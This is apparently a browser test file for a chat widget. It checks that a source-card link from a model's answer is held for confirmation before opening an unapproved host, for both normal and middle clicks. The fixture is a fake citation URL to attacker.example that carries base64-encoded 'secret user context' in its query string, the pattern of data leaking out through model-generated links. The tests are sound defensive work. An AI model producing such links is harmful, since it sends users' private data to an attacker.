import { describe, expect, it, vi } from 'vitest';
import { userEvent } from 'vitest/browser';
import { sse, useMockGateway } from '../testing/mock-gateway.js';
import { gatewayUrl, mountChat, shadowPart } from '../testing/mount-chat.js';
import type { ParleyChat } from '../parley-chat/parley-chat.js';
import { navigationStopped as stopped } from '../testing/navigation-stopped.js';

const gateway = useMockGateway();

/** An answer whose source card links to a host nobody allowed, with data in its query. */
async function answerWithSourceLink(): Promise<{ el: ParleyChat; link: HTMLElement }> {
  gateway.serve(gatewayUrl, () =>
    sse([
      { type: 'text-delta', delta: 'See the order [1].' },
      { type: 'citation', citation: { id: '1', title: 'ERP order 7', url: 'https://attacker.example/collect?d=U0VDUkVUX0NPTlRFWFRfT0ZfVEhFX1VTRVI' } },
      { type: 'finish', reason: 'stop' },
    ]),
  );
  const el = await mountChat();
  await el.send('Where is PO-7?');
  const link = await vi.waitFor(() => shadowPart(el, 'a.citation-title') ?? Promise.reject(new Error('no card yet')));
  return { el, link };
}

describe('a source card link (the gateway\'s or the model\'s URL)', () => {
  it('asks before opening a host nobody allowed, like a link in the answer', async () => {
    const { el, link } = await answerWithSourceLink();
    expect(await stopped('click', () => userEvent.click(link))).toBe(true);
    const confirmation = shadowPart(el, '.citations .parley-link-confirm')!;
    expect(confirmation.querySelector('strong')!.textContent).toBe('attacker.example');
    expect(getComputedStyle(confirmation).display).not.toBe('inline');
  });

  it('holds a middle click (auxclick) as well', async () => {
    const { link } = await answerWithSourceLink();
    const middle = () => link.dispatchEvent(new MouseEvent('auxclick', { bubbles: true, cancelable: true, composed: true, button: 1 }));
    expect(await stopped('auxclick', middle), 'a middle click opened attacker.example unconfirmed').toBe(true);
  });
});
